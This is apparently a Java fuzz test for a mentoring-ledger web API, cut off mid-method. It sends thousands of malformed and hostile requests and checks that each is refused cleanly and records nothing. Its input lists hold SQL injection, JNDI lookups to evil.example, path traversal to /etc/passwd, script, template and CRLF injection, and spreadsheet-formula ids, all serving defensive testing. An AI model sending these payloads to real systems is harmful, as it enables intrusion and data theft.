package fi.mentoringledger.command.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import fi.mentoringledger.api.relationship.MeetingRecorded;
import fi.mentoringledger.eventstore.PostgresTestDatabase;
import fi.mentoringledger.security.TestUsers;

/**
 * 3,000 generated requests (seeded; the seed is printed) against every command endpoint, each made
 * invalid on purpose by one "breaker" — malformed, deeply nested or oversized JSON, an unknown
 * field, a wrong type, a missing, null or out-of-range value, a bad path or method, a bad If-Match,
 * Content-Type or Accept, a hostile raw HTTP request — half of them with hostile noise besides
 * (injection strings, unicode, nulls, odd headers). Every one must be answered with a 4xx whose
 * body leaks nothing, a 400 must name the spoiled field, and no event may be recorded (the store is
 * counted after each request). A control run first shows that each endpoint's template, unbroken,
 * is accepted — so it is the breaker that is refused — and that hostile but valid text is stored
 * as sent.
 */
class ApiFuzzIT {

    static final int CASES = Integer.getInteger("fuzz.cases", 3000);
    static final long SEED = Long.getLong("fuzz.seed", System.nanoTime());
    /** The service's default limit (mentoring.http.max-body-size). */
    static final int BODY_LIMIT = 1024 * 1024;
    static final LocalDate STARTED_ON = LocalDate.of(2025, 1, 6);
    static final LocalDate TODAY = LocalDate.now(ZoneId.of("Europe/Helsinki"));
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final ObjectMapper STRICT_JSON = new ObjectMapper().enable(DeserializationFeature.FAIL_ON_TRAILING_TOKENS);

    @RegisterExtension
    static final PostgresTestDatabase database = PostgresTestDatabase.create();
    static CommandServiceInstance service;
    static ApiClient api;

    @BeforeAll
    static void startService() {
        service = database.closeAfterAll(CommandServiceInstance.start(database));
        api = service.api();
    }

    // ----------------------------------------------------------------------------------------------
    // What the endpoints accept: each field's kind, whether it is required, and a valid template.

    enum Kind { ID, PERSON_ID, TEXT, PROGRAMME, LANGUAGE, DATE_PAST, DATE_BUSINESS, DATE_PLANNED, INT, BOOL, ENUM, TEXT_LIST, GOALS, OBJECT }

    record Field(String path, Kind kind, boolean required, boolean notBlank, int max, List<String> values) {

        static Field of(String path, Kind kind, boolean required) {
            return new Field(path, kind, required, false, 0, List.of());
        }

        static Field text(String path, int max, boolean required, boolean notBlank) {
            return new Field(path, Kind.TEXT, required, notBlank, max, List.of());
        }

        static Field number(String path, int min, int max, boolean required) {
            return new Field(path, Kind.INT, required, false, max, List.of(Integer.toString(min)));
        }

        static Field choice(String path, boolean required, String... values) {
            return new Field(path, Kind.ENUM, required, false, 0, List.of(values));
        }
    }

    enum Target { NONE, STARTED, IN_PROGRESS, PAUSED, CLOSED }

    record Endpoint(String name, Target target, String suffix, boolean bodyOptional, Function<Integer, ObjectNode> template,
            List<Field> fields) {

        String path(String relationshipId) {
            return target == Target.NONE ? "/api/relationships" : "/api/relationships/" + relationshipId + suffix;
        }
    }

    static ObjectNode json(String text) {
        try {
            return (ObjectNode) ApiClient.JSON.readTree(text);
        } catch (IOException e) {
            throw new IllegalArgumentException(text, e);
        }
    }

    static final List<Field> AGREEMENT_FIELDS = List.of(
            Field.of("goals", Kind.GOALS, true),
            Field.of("goals/0/goalId", Kind.ID, false),
            Field.text("goals/0/description", 2000, true, true),
            Field.of("goals/0/milestones", Kind.TEXT_LIST, false),
            Field.of("groundRules", Kind.OBJECT, true),
            Field.text("groundRules/contactChannel", 2000, true, true),
            Field.text("groundRules/meetingFrequency", 2000, true, true),
            Field.text("groundRules/preparation", 2000, false, false),
            Field.of("plannedEndOn", Kind.DATE_PLANNED, false),
            Field.of("agreedOn", Kind.DATE_BUSINESS, false));

    static String agreement(String goals) {
        return """
                {"goals":[%s],"groundRules":{"contactChannel":"Teams","meetingFrequency":"every two weeks",
                 "preparation":"agenda"},"plannedEndOn":"%s","agreedOn":"%s"}""".formatted(goals,
                TODAY.plusMonths(3), STARTED_ON.plusDays(7));
    }

    static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("start", Target.NONE, "", false, n -> json("""
                    {"relationshipId":"fz-new-%d","programmeId":"womento-2025","mentor":{"id":"p-1","name":"Maija Virtanen"},
                     "mentee":{"id":"p-2","name":"Amina Yusuf"},"language":"fi","startedOn":"%s"}""".formatted(n, STARTED_ON)),
                    List.of(Field.of("relationshipId", Kind.ID, false), Field.of("programmeId", Kind.PROGRAMME, false),
                            Field.of("mentor", Kind.OBJECT, true), Field.of("mentor/id", Kind.PERSON_ID, true),
                            Field.text("mentor/name", 200, true, true), Field.of("mentee", Kind.OBJECT, true),
                            Field.of("mentee/id", Kind.PERSON_ID, true), Field.text("mentee/name", 200, true, true),
                            Field.of("language", Kind.LANGUAGE, true), Field.of("startedOn", Kind.DATE_PAST, false))),
            new Endpoint("agree", Target.STARTED, "/agree", false,
                    n -> json(agreement("{\"goalId\":\"g1\",\"description\":\"First job\",\"milestones\":[\"CV\"]}")),
                    AGREEMENT_FIELDS),
            new Endpoint("amend", Target.IN_PROGRESS, "/agreement-amendments", false,
                    n -> json(agreement("{\"goalId\":\"g1\",\"description\":\"First job\",\"milestones\":[\"CV\"]},"
                            + "{\"goalId\":\"g2\",\"description\":\"Network\"}")),
                    AGREEMENT_FIELDS),
            new Endpoint("meeting", Target.IN_PROGRESS, "/meetings", false, n -> json("""
                    {"meetingId":"fz-m-%d","heldOn":"%s","durationMinutes":60,"privateNotes":"notes","tasks":["update the CV"]}"""
                    .formatted(n, STARTED_ON.plusDays(20))),
                    List.of(Field.of("meetingId", Kind.ID, false), Field.of("heldOn", Kind.DATE_BUSINESS, true),
                            Field.number("durationMinutes", 1, 1440, false), Field.text("privateNotes", 20000, false, false),
                            Field.of("tasks", Kind.TEXT_LIST, false))),
            new Endpoint("achieve", Target.IN_PROGRESS, "/goals/g1/achieve", true,
                    n -> json("{\"achievedOn\":\"" + STARTED_ON.plusDays(30) + "\"}"),
                    List.of(Field.of("achievedOn", Kind.DATE_BUSINESS, false))),
            new Endpoint("concern", Target.IN_PROGRESS, "/concerns", false, n -> json("""
                    {"concernId":"fz-c-%d","raisedBy":"MENTEE","description":"meetings get cancelled","organiserContacted":false}"""
                    .formatted(n)),
                    List.of(Field.of("concernId", Kind.ID, false), Field.choice("raisedBy", true, "MENTOR", "MENTEE"),
                            Field.text("description", 4000, true, true), Field.of("organiserContacted", Kind.BOOL, true))),
            new Endpoint("resolve", Target.IN_PROGRESS, "/concerns/c1/resolve", true,
                    n -> json("{\"resolution\":\"talked it through\"}"),
                    List.of(Field.text("resolution", 4000, false, false))),
            new Endpoint("pause", Target.IN_PROGRESS, "/pause", false,
                    n -> json("{\"reason\":\"summer\",\"pausedOn\":\"" + STARTED_ON.plusDays(40) + "\"}"),
                    List.of(Field.text("reason", 2000, true, true), Field.of("pausedOn", Kind.DATE_BUSINESS, false))),
            new Endpoint("resume", Target.PAUSED, "/resume", true,
                    n -> json("{\"resumedOn\":\"" + STARTED_ON.plusDays(50) + "\"}"),
                    List.of(Field.of("resumedOn", Kind.DATE_BUSINESS, false))),
            new Endpoint("close", Target.IN_PROGRESS, "/close", true, n -> json("""
                    {"closedOn":"%s","summary":"goals met","continueContact":true}""".formatted(STARTED_ON.plusDays(60))),
                    List.of(Field.of("closedOn", Kind.DATE_BUSINESS, false), Field.text("summary", 4000, false, false),
                            Field.of("continueContact", Kind.BOOL, false))),
            new Endpoint("terminate", Target.IN_PROGRESS, "/terminate", false, n -> json("""
                    {"reason":"RELOCATION","initiatedBy":"MENTEE","note":"moved to Oulu","terminatedOn":"%s"}"""
                    .formatted(STARTED_ON.plusDays(70))),
                    List.of(Field.choice("reason", true, "LACK_OF_TIME", "MISMATCH", "LOST_CONTACT", "RELOCATION",
                                    "HEALTH_OR_FAMILY", "CHANGE_OF_GOALS", "ORGANISER_DECISION", "OTHER"),
                            Field.choice("initiatedBy", true, "MENTOR", "MENTEE", "BOTH", "ORGANISER"),
                            Field.text("note", 4000, false, false), Field.of("terminatedOn", Kind.DATE_BUSINESS, false))),
            new Endpoint("evaluate", Target.CLOSED, "/evaluations", false,
                    n -> json("{\"by\":\"MENTEE\",\"rating\":4,\"goalsMet\":\"PARTLY\",\"comments\":\"kiitos\"}"),
                    List.of(Field.choice("by", true, "MENTOR", "MENTEE"), Field.number("rating", 1, 5, true),
                            Field.choice("goalsMet", true, "FULLY", "PARTLY", "NOT"), Field.text("comments", 4000, false, false))));

    // ----------------------------------------------------------------------------------------------
    // Relationships in the stage where each endpoint's template would be accepted.

    static String prepare(String id, Target stage) {
        String base = "/api/relationships/" + id;
        expectOk(api.post("/api/relationships", """
                {"relationshipId":"%s","mentor":{"id":"p-1","name":"Maija"},"mentee":{"id":"p-2","name":"Amina"},
                 "language":"fi","startedOn":"%s"}""".formatted(id, STARTED_ON)));
        if (stage == Target.STARTED) {
            return id;
        }
        expectOk(api.post(base + "/agree", agreement("{\"goalId\":\"g1\",\"description\":\"First job\"},"
                + "{\"goalId\":\"g2\",\"description\":\"Network\"}")));
        expectOk(api.post(base + "/meetings", "{\"meetingId\":\"first\",\"heldOn\":\"" + STARTED_ON.plusDays(10) + "\"}"));
        expectOk(api.post(base + "/concerns",
                "{\"concernId\":\"c1\",\"raisedBy\":\"MENTOR\",\"description\":\"late\",\"organiserContacted\":false}"));
        switch (stage) {
            case PAUSED -> expectOk(api.post(base + "/pause", "{\"reason\":\"summer\",\"pausedOn\":\"" + STARTED_ON.plusDays(15) + "\"}"));
            case CLOSED -> expectOk(api.post(base + "/close", "{\"closedOn\":\"" + STARTED_ON.plusDays(15) + "\"}"));
            default -> {
            }
        }
        return id;
    }

    static void expectOk(ApiClient.Answer answer) {
        assertThat(answer.ok()).as(answer.text()).isTrue();
    }

    @Test
    void generatedMalformedAndHostileRequestsAreRefusedWithoutAServerErrorAndRecordNothing() throws Exception {
        System.out.println("ApiFuzzIT seed " + SEED + " (repeat with -Dfuzz.seed=" + SEED + "), " + CASES + " cases");
        Map<Target, String> targets = new LinkedHashMap<>();
        for (Target target : Target.values()) {
            if (target != Target.NONE) {
                targets.put(target, prepare("fuzz-" + target.name().toLowerCase().replace('_', '-'), target));
            }
        }
        everyTemplateUnbrokenIsAccepted();
        hostileButValidTextIsStoredAsSent();

        Random random = new Random(SEED);
        Map<String, Long> breakers = new TreeMap<>();
        Map<Integer, Long> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        long started = System.nanoTime();
        try (Connection connection = database.connect()) {
            long before = StoredEvent.count(connection);
            for (int n = 0; n < CASES; n++) {
                Case fuzz = generate(n, random, targets);
                Outcome outcome = fuzz.send();
                breakers.merge(fuzz.breaker().replaceAll(" [\\[{\"'].*", ""), 1L, Long::sum);
                statuses.merge(outcome.status(), 1L, Long::sum);
                String failure = judge(outcome);
                if (failure == null && fuzz.breaker().contains("oversized") && outcome.status() != 413) {
                    failure = "an oversized body not refused as such";
                }
                if (failure == null && fuzz instanceof HttpCase http && http.field() != null && outcome.status() == 400
                        && !namesField(outcome, http.field())) {
                    failure = "a 400 that does not name " + http.field();
                }
                long now = StoredEvent.count(connection);
                if (now != before) {
                    failure = (failure == null ? "" : failure + "; ") + (now - before) + " event(s) recorded";
                    before = now;
                }
                if (failure != null) {
                    failures.add(failure + ": " + fuzz + " answered " + outcome);
                }
            }
        }
        System.out.println("ApiFuzzIT: " + CASES + " cases in " + (System.nanoTime() - started) / 1_000_000 + " ms; breakers "
                + breakers + "; answers " + statuses);
        assertThat(failures).as("requests answered with a server error, an unclean body or a recorded event").isEmpty();
        assertThat(statuses.keySet()).as("the fuzz reached validation, routing, media types and limits")
                .contains(400, 404, 405, 406, 412, 413, 415);
        ApiClient.Answer stillWorking = api.post("/api/relationships/" + targets.get(Target.IN_PROGRESS) + "/meetings",
                "{\"meetingId\":\"after-fuzz\",\"heldOn\":\"" + STARTED_ON.plusDays(3) + "\"}");
        assertThat(stillWorking.status()).as(stillWorking.text()).isEqualTo(200);
    }

    /** What is wrong with an answer to an invalid request, or null: a 4xx (or a closed connection) with a clean body. */
    static String judge(Outcome outcome) throws IOException {
        if (outcome.status() == 505 && outcome.body().contains("HTTP Version Not Supported")) {
            return null; // Tomcat's answer to "HTTP/9.9": a 5xx by number, a refusal of the client's protocol by meaning
        }
        if (outcome.status() >= 500) {
            return "server error";
        }
        if (outcome.status() != 0 && (outcome.status() < 400 || outcome.status() > 499)) {
            return "accepted";
        }
        for (String leak : List.of("\tat ", "Exception", "org.springframework", "org.hibernate", "org.axonframework", "PSQL",
                "domain_event_entry")) {
            if (outcome.body().contains(leak)) {
                return "the body leaks " + leak.trim();
            }
        }
        if (outcome.contentType().startsWith("application/problem+json")) {
            JsonNode problem = ApiClient.JSON.readTree(outcome.body());
            if (problem.path("status").asInt() != outcome.status() || problem.path("title").asText().isBlank()
                    || problem.path("type").asText().isBlank()) {
                return "an incomplete problem body";
            }
        }
        return null;
    }

    /** Whether a 400's errors name the field (or a part of it) that the breaker spoiled. */
    static boolean namesField(Outcome outcome, String field) throws IOException {
        for (JsonNode error : ApiClient.JSON.readTree(outcome.body()).path("errors")) {
            String named = error.path("field").asText();
            if (named.equals(field) || named.startsWith(field + ".") || named.startsWith(field + "[")) {
                return true;
            }
        }
        return false;
    }

    /** The control: each template, unbroken, on a relationship of its own in the same stage, is accepted. */
    void everyTemplateUnbrokenIsAccepted() {
        for (Endpoint endpoint : ENDPOINTS) {
            String id = endpoint.target() == Target.NONE ? null : prepare("control-" + endpoint.name(), endpoint.target());
            ApiClient.Answer answer = api.post(endpoint.path(id), endpoint.template().apply(-1).toString());
            assertThat(answer.ok()).as("the template of %s is valid: %s", endpoint.name(), answer.text()).isTrue();
        }
    }

    /** Injection strings, control characters, emoji and right-to-left marks are text like any other. */
    void hostileButValidTextIsStoredAsSent() throws Exception {
        String id = prepare("control-hostile-text", Target.IN_PROGRESS);
        List<String> texts = new ArrayList<>(HOSTILE_TEXT);
        texts.add("ä".repeat(20000));
        for (int i = 0; i < texts.size(); i++) {
            ObjectNode meeting = json("{\"meetingId\":\"hostile-" + i + "\",\"heldOn\":\"" + STARTED_ON.plusDays(21) + "\"}");
            meeting.put("privateNotes", texts.get(i));
            meeting.putArray("tasks").add(texts.get(i).substring(0, Math.min(2000, texts.get(i).length())));
            ApiClient.Answer answer = api.post("/api/relationships/" + id + "/meetings", meeting.toString());
            assertThat(answer.status()).as("%s: %s", texts.get(i), answer.text()).isEqualTo(200);
        }
        // Written escaped: a lone surrogate cannot travel as UTF-8, but JSON may carry it.
        ApiClient.Answer lone = api.post("/api/relationships/" + id + "/meetings",
                "{\"meetingId\":\"lone\",\"heldOn\":\"" + STARTED_ON.plusDays(21) + "\",\"privateNotes\":\"lone \\ud83d surrogate\"}");
        assertThat(lone.status()).as(lone.text()).isEqualTo(200);
        texts.add("lone \uD83D surrogate");
        // Stored sealed (personal data); read back as the services read it.
        List<String> stored = OpenedEvents.of(database, id).stream()
                .filter(MeetingRecorded.class::isInstance).map(e -> ((MeetingRecorded) e).privateNotes())
                .filter(notes -> notes != null).toList();
        assertThat(stored).containsExactlyElementsOf(texts);
    }

    // ----------------------------------------------------------------------------------------------
    // The generator.

    static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE domain_event_entry; --", "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
            "<script>alert(1)</script>", "%s%n%x", "../../../../etc/passwd", "\u0000nul\u0000", "\u202Eevil\u202C",
            "Ääkkösiä ja åäö", "👩‍💼🤝👨‍🎓", "\r\nX-Injected: 1", "null", "true", "[]", "{}", "\\u0000",
            "ｆｕｌｌｗｉｄｔｈ", "Z̸̢͎a̵l̶g̷o̴", "\uFEFFbom", "tab\tbell\u0007\b\f",
            // Text that looks like sealed personal data, in the first stored form and today's.
            "pd1:", "pd1:x:y", "pd1:00000000-0000-0000-0000-000000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "pd2", "{\"sealed\":\"pd2\",\"keys\":[\"00000000-0000-0000-0000-000000000000\"],\"data\":\"AAAA\"}",
            "{\"sealed\":\"pd1\"}");
    static final List<String> UNKNOWN_FIELDS = List.of("admin", "version", "stage", "__proto__", "constructor", "$where",
            "relationshipID", "meeting_id", "heldon", "@class", "eventIdentifier", "sequenceNumber", "x".repeat(300), "ä", "");
    static final List<String> BAD_IDS = List.of("a b", "ä", "x".repeat(101), "a/b", "a%2Fb", "<script>", "'--", "%00",
            "a\u0000b", "..", "a;b", "a?b", "a#b", "{id}", "\u202E", "*", "a\\b", " ");
    /** Ids a spreadsheet would run as a formula or a log would split: refused when an id is recorded. */
    static final List<String> BAD_NEW_IDS = List.of("=1+1", "=HYPERLINK(\"http://evil.example\")", "+1", "-1", "@SUM(A1)",
            "a\r\nINFO forged", "\tx", "a\u0085b", "a\u2028b", "_x", ".x", ":x");
    static final List<String> BAD_DATES = List.of("2025-02-30", "2025-13-01", "2025-00-10", "20250101", "01.02.2025",
            "2025/01/01", "today", "", " ", "2025-1-1", "2025-01-01T10:00:00Z", "2025-01-01T00:00", "１２３４-01-01", "NaN");
    static final List<String> BAD_IF_MATCH = List.of("abc", "-1", "1.5", "\"\"", "W/", "99999999999999999999", "\"1\", \"2\"",
            "0x10", "1 2", "W/\"x\"", "\"1", "+1", "1e3", "null", "ETag: 1");

    /** One generated request. */
    interface Case {
        String breaker();

        Outcome send() throws IOException;
    }

    record Outcome(int status, String contentType, String body) {
        @Override
        public String toString() {
            return status + " " + contentType + " " + (body.length() > 300 ? body.substring(0, 300) + "…" : body);
        }
    }

    /** A request through java.net.http: method, path, headers, body bytes (chunked when asked). */
    record HttpCase(int n, String breaker, String method, String path, Map<String, String> headers, byte[] body,
            boolean chunked) implements Case {

        /** The body field the breaker spoiled, as a problem's errors name it ("goals[0].description"), if any. */
        String field() {
            for (String prefix : List.of("wrong type of ", "invalid ", "missing ", "null ")) {
                if (breaker.startsWith(prefix) && !breaker.startsWith("invalid relationship id")) {
                    String path = breaker.substring(prefix.length()).split(" ")[0];
                    return path.replaceAll("/(\\d+)", "[$1]").replace('/', '.');
                }
            }
            return null;
        }

        @Override
        public Outcome send() {
            HttpRequest.Builder request;
            try {
                request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
                        .timeout(Duration.ofSeconds(30));
            } catch (IllegalArgumentException e) {
                throw new IllegalStateException("generated an unusable path " + path, e);
            }
            HttpRequest.BodyPublisher publisher = body == null ? HttpRequest.BodyPublishers.noBody()
                    : chunked ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body))
                    : HttpRequest.BodyPublishers.ofByteArray(body);
            request.method(method, publisher);
            headers.forEach(request::header);
            ApiClient.Answer answer = api.send(request.build());
            return new Outcome(answer.status(), answer.contentType(), answer.text());
        }

        @Override
        public String toString() {
            String text = body == null ? "" : visible(new String(body, StandardCharsets.UTF_8));
            return "case " + n + " [" + breaker + "] " + method + " " + path + " " + headers + " "
                    + (text.length() > 300 ? text.substring(0, 300) + "… (" + body.length + " bytes)" : text);
        }
    }

    /** Bytes written straight to a socket: what no well-behaved client library would send. */
    record RawCase(int n, String breaker, byte[] request) implements Case {

        @Override
        public Outcome send() throws IOException {
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress("127.0.0.1", api.port()), 5000);
                socket.setSoTimeout(10000);
                OutputStream out = socket.getOutputStream();
                try {
                    out.write(request);
                    out.flush();
                    socket.shutdownOutput();
                } catch (IOException e) {
                    // the server may close on an early refusal while the rest is still being written
                }
                ByteArrayOutputStream response = new ByteArrayOutputStream();
                try {
                    InputStream in = socket.getInputStream();
                    byte[] buffer = new byte[8192];
                    for (int read; (read = in.read(buffer)) >= 0 && response.size() < 1_000_000; ) {
                        response.write(buffer, 0, read);
                    }
                } catch (SocketTimeoutException e) {
                    throw new AssertionError(this + ": no answer within 10 s");
                } catch (IOException e) {
                    // a reset after the answer
                }
                String text = response.toString(StandardCharsets.ISO_8859_1);
                if (!text.startsWith("HTTP/1.1 ")) {
                    return new Outcome(0, "", text);
                }
                int status = Integer.parseInt(text.substring(9, 12));
                int headersEnd = text.indexOf("\r\n\r\n");
                String head = headersEnd < 0 ? text : text.substring(0, headersEnd);
                String contentType = head.lines().filter(l -> l.toLowerCase().startsWith("content-type:"))
                        .map(l -> l.substring(13).trim()).findFirst().orElse("");
                String body = headersEnd < 0 ? "" : new String(text.substring(headersEnd + 4).getBytes(StandardCharsets.ISO_8859_1),
                        StandardCharsets.UTF_8);
                if (head.toLowerCase().contains("transfer-encoding: chunked")) {
                    body = dechunk(body);
                }
                return new Outcome(status, contentType, body);
            }
        }

        private static String dechunk(String chunked) {
            StringBuilder body = new StringBuilder();
            String rest = chunked;
            while (true) {
                int lineEnd = rest.indexOf("\r\n");
                if (lineEnd < 0) {
                    return body.toString();
                }
                int size = Integer.parseInt(rest.substring(0, lineEnd).trim(), 16);
                if (size == 0) {
                    return body.toString();
                }
                body.append(rest, lineEnd + 2, Math.min(rest.length(), lineEnd + 2 + size));
                rest = rest.substring(Math.min(rest.length(), lineEnd + 4 + size));
            }
        }

        @Override
        public String toString() {
            String text = new String(request, StandardCharsets.ISO_8859_1);
            return "case " + n + " [" + breaker + "] raw " + (text.length() > 400 ? text.substring(0, 400) + "…" : text);
        }
    }

    static Case generate(int n, Random random, Map<Target, String> targets) {
        Endpoint endpoint = ENDPOINTS.get(random.nextInt(ENDPOINTS.size()));
        String id = targets.get(endpoint.target());
        ObjectNode body = endpoint.template().apply(n);
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        headers.put("X-Correlation-Id", "fz-" + n);
        if (random.nextBoolean()) {
            noise(random, endpoint, body, headers);
        }
        String path = endpoint.path(id);
        String method = "POST";
        byte[] bytes = null;
        boolean chunked = false;
        String breaker;
        int roll = random.nextInt(100);
        if (roll < 12) {
            breaker = "malformed JSON";
            bytes = malformed(random, body.toString()).getBytes(StandardCharsets.UTF_8);
        } else if (roll < 20) {
            breaker = "unknown field";
            ObjectNode into = randomObject(random, body);
            into.put(pick(random, UNKNOWN_FIELDS), random.nextBoolean() ? NODES.textNode(pick(random, HOSTILE_TEXT)) : NODES.numberNode(1));
        } else if (roll < 34) {
            Field field = pick(random, endpoint.fields());
            breaker = "wrong type of " + field.path();
            set(body, field.path(), wrongType(random, field));
        } else if (roll < 46) {
            List<Field> required = endpoint.fields().stream().filter(Field::required).toList();
            if (required.isEmpty()) {
                breaker = "unknown field";
                body.put(pick(random, UNKNOWN_FIELDS.subList(0, 6)), true);
            } else {
                Field field = pick(random, required);
                if (random.nextBoolean()) {
                    breaker = "missing " + field.path();
                    remove(body, field.path());
                } else {
                    breaker = "null " + field.path();
                    set(body, field.path(), NODES.nullNode());
                }
            }
        } else if (roll < 68) {
            Field field = pick(random, endpoint.fields());
            JsonNode invalid = invalidValue(random, field);
            breaker = "invalid " + field.path() + " " + abbreviate(invalid.toString());
            set(body, field.path(), invalid);
        } else if (roll < 78 && endpoint.target() != Target.NONE) {
            int kind = random.nextInt(6);
            breaker = switch (kind) {
                case 0 -> {
                    path = endpoint.path(encode(pick(random, BAD_IDS)));
                    yield "invalid relationship id in path";
                }
                case 1 -> {
                    path = endpoint.path("no-such-" + n);
                    yield "unknown relationship";
                }
                case 2 -> {
                    if (endpoint.suffix().contains("/g1/") || endpoint.suffix().contains("/c1/")) {
                        String part = random.nextBoolean() ? "unknown-" + n : encode(pick(random, BAD_IDS));
                        path = path.replace("/g1/", "/" + part + "/").replace("/c1/", "/" + part + "/");
                        yield "unknown or invalid goal or concern";
                    }
                    path = path + "/" + pick(random, List.of("x", "..%2F..", "%20", "undo", "1"));
                    yield "extra path segment";
                }
                case 3 -> {
                    method = pick(random, List.of("PUT", "PATCH", "DELETE", "GET"));
                    yield "method " + method;
                }
                case 4 -> {
                    path = path.replace("/api/relationships/", pick(random, List.of("/api/relationship/",
                            "/api/Relationships/", "/api//relationships/", "/API/relationships/", "/api/relationships/v2/")));
                    yield "misspelt path";
                }
                default -> {
                    path = path + pick(random, List.of("/", "%00", "%"));
                    yield "path suffix";
                }
            };
            if (breaker.startsWith("path suffix") && path.endsWith("%")) {
                return raw(n, breaker, "POST " + path + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
                        + "Content-Length: " + body.toString().getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body);
            }
        } else if (roll < 84 && endpoint.target() != Target.NONE) {
            if (random.nextInt(3) == 0) {
                breaker = "stale If-Match";
                headers.put("If-Match", "\"" + (1000 + random.nextInt(1000)) + "\"");
            } else {
                breaker = "malformed If-Match";
                headers.put("If-Match", pick(random, BAD_IF_MATCH));
            }
        } else if (roll < 89) {
            String contentType = pick(random, List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/json; charset=nonsense",
                    "application/jsonx", "text/json", "none", "application/octet-stream", "json", "application/*"));
            breaker = "Content-Type " + contentType;
            if (contentType.equals("none")) {
                headers.remove("Content-Type");
            } else {
                headers.put("Content-Type", contentType);
            }
        } else if (roll < 92) {
            String accept = pick(random, List.of("text/plain", "application/xml", "image/png", "text/html", "text/csv"));
            breaker = "Accept " + accept;
            headers.put("Accept", accept);
        } else if (roll < 95) {
            chunked = random.nextInt(3) == 0;
            breaker = "oversized body" + (chunked ? ", chunked" : "");
            String valid = body.toString();
            bytes = (valid + " ".repeat(BODY_LIMIT + random.nextInt(BODY_LIMIT / 2) - valid.length() + 1))
                    .getBytes(StandardCharsets.UTF_8);
        } else if (roll < 97) {
            breaker = "binary body";
            bytes = new byte[1 + random.nextInt(2000)];
            random.nextBytes(bytes);
            bytes[0] = (byte) (0x80 | bytes[0]);
        } else {
            return hostileRaw(n, random, path, body.toString());
        }
        if (bytes == null) {
            bytes = body.toString().getBytes(StandardCharsets.UTF_8);
        }
        return new HttpCase(n, breaker, method, path, headers, bytes, chunked);
    }

    /** Hostile noise that on its own would not make a request invalid; the breaker comes after it. */
    static void noise(Random random, Endpoint endpoint, ObjectNode body, Map<String, String> headers) {
        for (int i = 0; i < 1 + random.nextInt(3); i++) {
            switch (random.nextInt(6)) {
                case 0 -> headers.put("X-Correlation-Id", pick(random, List.of("' OR 1=1", "x".repeat(500), "<script>",
                        "../../etc", "${jndi:ldap://e/a}", "%00", "a b c")));
                case 1 -> headers.put(pick(random, List.of("X-Forwarded-For", "X-Original-URL", "X-HTTP-Method-Override",
                        "Origin", "Referer", "User-Agent", "Cookie")), pick(random, List.of("127.0.0.1", "/admin", "DELETE",
                        "http://evil.example", "' OR 1=1 --", "JSESSIONID=x; admin=true", "x".repeat(2000))));
                case 2 -> {
                    List<Field> optional = endpoint.fields().stream().filter(f -> !f.required() && !f.path().contains("/")).toList();
                    if (!optional.isEmpty()) {
                        set(body, pick(random, optional).path(), NODES.nullNode());
                    }
                }
                case 3 -> {
                    List<Field> texts = endpoint.fields().stream().filter(f -> f.kind() == Kind.TEXT).toList();
                    if (!texts.isEmpty()) {
                        Field field = pick(random, texts);
                        String hostile = pick(random, HOSTILE_TEXT);
                        if (!hostile.isBlank() && hostile.length() <= field.max()) {
                            set(body, field.path(), NODES.textNode(hostile));
                        }
                    }
                }
                case 4 -> {
                    if (endpoint.target() != Target.NONE) {
                        headers.put("If-Match", "*");
                    }
                }
                default -> headers.put("Accept", pick(random, List.of("application/json", "*/*",
                        "application/problem+json, application/json", "application/json;q=0.9, */*;q=0.1")));
            }
        }
    }

    /**
     * One mutation that leaves the body unreadable. A mutation can land inside a text value (a
     * comma doubled inside a string), leaving valid JSON; such a draw is discarded and another made.
     */
    static String malformed(Random random, String json) {
        String mutated;
        do {
            mutated = mutation(random, json);
        } while (parsesAsObject(mutated));
        return mutated;
    }

    /** Whether the service, reading as strictly as application.yml says, would see a JSON object. */
    static boolean parsesAsObject(String text) {
        try {
            return STRICT_JSON.readTree(text) instanceof ObjectNode;
        } catch (IOException unreadable) {
            return false;
        }
    }

    private static String mutation(Random random, String json) {
        return switch (random.nextInt(11)) {
            case 0 -> json.substring(0, 1 + random.nextInt(json.length() - 1));
            case 1 -> json.replace('"', '\'');
            case 2 -> json + pick(random, List.of("}", "]", ",", "x", "{}", "\"", "null"));
            case 3 -> pick(random, List.of("x", "/* c */", "// c\n", "#", ")]}'\n", "\u0000")) + json;
            case 4 -> json.replaceFirst(":", ":NaN,\"x\":");
            case 5 -> json.replaceFirst("\\{", "{" + "[".repeat(2000) + "]".repeat(2000) + ",");
            case 6 -> "{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
            case 7 -> json.contains(",") ? json.replaceFirst(",", ",,") : json.replaceFirst("}$", ",}");
            case 8 -> json.replaceFirst("\"", "");
